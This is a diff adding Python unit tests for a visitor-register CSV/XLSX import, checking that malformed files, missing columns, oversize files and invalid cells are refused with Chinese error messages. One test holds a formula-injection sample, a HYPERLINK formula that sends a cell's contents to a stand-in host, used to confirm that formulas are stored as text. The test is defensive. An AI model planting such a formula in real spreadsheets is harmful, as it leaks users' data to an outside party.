@@ -1,0 +1,131 @@
+"""Bad registers (VIS-6): a clear Chinese message, and nothing written."""
+from __future__ import annotations
+
+import csv
+
+import pytest
+
+from app.errors import ValidationError
+from app.models.visitors import Visit
+from app.reports import register_file
+from app.services import register_io
+from tests.unit.helpers import fetch, refused
+
+GOOD = ["2026-11-20 10:05", "来访", "林女士", "13912345678", "2", "朋友介绍", "三房", "李一", ""]
+
+
+def register(tmp_path, *rows, name="in.csv"):
+    path = tmp_path / name
+    with path.open("w", encoding="utf-8-sig", newline="") as f:
+        out = csv.writer(f)
+        out.writerow(register_file.COLUMNS)
+        out.writerows(rows)
+    return str(path)
+
+
+def with_(**cells):
+    row = list(GOOD)
+    for column, value in cells.items():
+        row[register_file.COLUMNS.index(column)] = value
+    return row
+
+
+def importing(office, path, **kw):
+    return register_io.import_logs(office.manager, office.uow(), path=path, **kw)
+
+
+def test_a_file_that_is_not_a_register_is_refused_in_plain_words_VIS6(office, tmp_path):
+    text = tmp_path / "register.txt"
+    text.write_text("来访时间,姓名\n", encoding="utf-8")
+    with refused(office, ValidationError, match=r"\.csv 或 \.xlsx"):
+        importing(office, str(text))
+    picture = tmp_path / "photo.csv"  # a picture renamed .csv
+    picture.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40)
+    with refused(office, ValidationError, match="photo.csv.*既不是 UTF-8 也不是 GB18030"):
+        importing(office, str(picture))
+    fake = tmp_path / "fake.xlsx"
+    fake.write_text("来访时间,姓名\n", encoding="utf-8")
+    with refused(office, ValidationError, match="fake.xlsx"):
+        importing(office, str(fake))
+
+
+def test_an_empty_file_or_one_without_a_header_is_refused_VIS6(office, tmp_path):
+    empty = tmp_path / "empty.csv"
+    empty.write_bytes(b"")
+    with refused(office, ValidationError, match="文件是空的"):
+        importing(office, str(empty))
+    blank = tmp_path / "blank.csv"
+    blank.write_text(",,,\n\n,,\n", encoding="utf-8")
+    with refused(office, ValidationError, match="文件是空的"):
+        importing(office, str(blank))
+    prose = tmp_path / "prose.csv"
+    prose.write_text("\n".join(f"第 {n} 行随便写的字" for n in range(30)), encoding="utf-8")
+    with refused(office, ValidationError, match="没有列名行"):
+        importing(office, str(prose))
+    only_header = register(tmp_path, name="header.csv")
+    with refused(office, ValidationError, match="表头下没有"):
+        importing(office, only_header)
+
+
+def test_a_missing_required_column_is_named_VIS6(office, tmp_path):
+    path = tmp_path / "no_phone.csv"
+    path.write_text("客户姓名,来访日期,接待顾问\n王先生,2026-11-20,李一\n", encoding="utf-8")
+    with refused(office, ValidationError, match="缺少列：手机"):
+        importing(office, str(path))
+
+
+def test_a_file_over_the_limit_is_refused_before_it_is_read_VIS6(office, tmp_path):
+    for name in ("huge.csv", "huge.xlsx"):
+        huge = tmp_path / name
+        with huge.open("wb") as f:  # sparse: instant, and takes no disk
+            f.truncate(register_file.MAX_BYTES + 1)
+        with refused(office, ValidationError, match="最大 200 MB"):
+            importing(office, str(huge))
+
+
+@pytest.mark.parametrize(("cells", "said"), [
+    ({"来访时间": "2026-02-30 10:00"}, "不存在 2026-02-30 10:00 这个日期"),
+    ({"来访时间": "2026/13/01 10:00"}, "不存在"),
+    ({"来访时间": "2026-11-20 25:10"}, "不存在"),
+    ({"来访时间": "上周五下午"}, "2026-11-23 14:30"),
+    ({"来访时间": "2027-01-01 10:00"}, "晚于现在"),
+    ({"手机": "12345"}, "11 位"),
+    ({"手机": "没留电话"}, "只能包含数字"),
+    ({"手机": "1" * 10_000}, "11 位"),
+    ({"人数": "-2"}, "人数"),
+    ({"人数": "两个"}, "人数"),
+    ({"姓名": "王" * 10_000}, "40"),
+    ({"备注": "长" * 10_000}, "1000"),
+    ({"意向": "长" * 10_000}, "200"),
+    ({"置业顾问": "顾" * 10_000}, "没有名为"),
+    ({"类型": "上门"}, "来访"),
+], ids=lambda v: str(v)[:30])
+def test_a_bad_cell_refuses_its_row_with_a_short_reason_and_writes_nothing_VIS6(office, tmp_path, cells, said):
+    path = register(tmp_path, GOOD, with_(**{"姓名": "赵先生", "手机": "13712345678", **cells}))
+    result = importing(office, path)
+    [rejected] = result.rejected
+    assert rejected.row == 3 and said in rejected.reason and len(rejected.reason) < 120
+    assert not result.written and fetch(office, Visit) == []  # all or nothing: not even the good row
+
+
+def test_a_huge_cell_in_a_kept_column_is_refused_too_VIS6(office, tmp_path):
+    path = tmp_path / "extra.csv"
+    with path.open("w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows([[*register_file.COLUMNS, "交通工具"], [*GOOD, "车" * 10_000]])
+    [rejected] = importing(office, str(path)).rejected
+    assert "交通工具" in rejected.reason and "1000" in rejected.reason and fetch(office, Visit) == []
+
+
+def test_formulas_are_imported_as_text_never_run_VIS5_VIS6(office, tmp_path):
+    hyperlink = '=HYPERLINK("http://evil.example/?q="&A1,"点这里")'
+    path = register(tmp_path, with_(备注=hyperlink, 意向="@SUM(A1:A9)"))
+    assert importing(office, path).visits == 1
+    [visit] = fetch(office, Visit)
+    assert visit.note == hyperlink and visit.intent == "@SUM(A1:A9)"
+
+
+def test_with_skip_invalid_the_good_rows_go_in_and_each_bad_one_is_named_VIS6(office, tmp_path):
+    path = register(tmp_path, GOOD, with_(手机="12345"), with_(来访时间="2026-02-30 10:00", 手机="13712345678"))
+    result = importing(office, path, all_or_nothing=False)
+    assert result.visits == 1 and [r.row for r in result.rejected] == [3, 4]
+    assert [v.name for v in fetch(office, Visit)] == ["林女士"]
